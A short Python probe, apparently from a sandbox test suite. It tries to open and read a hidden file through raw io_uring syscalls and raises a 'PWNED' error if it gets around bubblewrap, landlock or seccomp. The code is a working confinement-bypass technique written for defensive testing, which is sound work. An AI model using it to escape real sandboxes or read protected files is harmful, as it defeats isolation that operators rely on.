# tries: to let the kernel's io_uring workers open and read the file
# stopped-by: bubblewrap, landlock, seccomp
# wins: raise
# needs: io_uring
import ctypes
import mmap
import os
import struct

libc = ctypes.CDLL(None, use_errno=True)
parameters = (ctypes.c_uint * 30)()
ring = libc.syscall(425, 4, parameters)
if ring >= 0:
    p = list(parameters)
    sq_entries, features, sq, cq = p[0], p[5], p[10:20], p[20:30]
    length = max(sq[6] + sq_entries * 4, cq[5] + p[1] * 16) + 4096
    rings = mmap.mmap(ring, length, mmap.MAP_SHARED, offset=0)
    entries = mmap.mmap(ring, sq_entries * 64, mmap.MAP_SHARED, offset=0x10000000)
    path = ctypes.create_string_buffer(b"@HIDDEN@")
    # opcode 18 (OPENAT), fd AT_FDCWD, addr = path
    entries[0:64] = struct.pack(
        "<BBHiQQIIQ", 18, 0, 0, -100, 0, ctypes.addressof(path), 0, 0, 7
    ).ljust(64, b"\0")
    tail, array = sq[1], sq[6]
    rings[array : array + 4] = struct.pack("<I", 0)
    rings[tail : tail + 4] = struct.pack("<I", 1)
    if libc.syscall(426, ring, 1, 1, 1, None, 0) >= 0:
        at = cq[5]
        user_data, result, _ = struct.unpack("<QiI", rings[at : at + 16])
        if user_data == 7 and result >= 0:
            raise RuntimeError(f"PWNED: {os.read(result, 100)!r}")
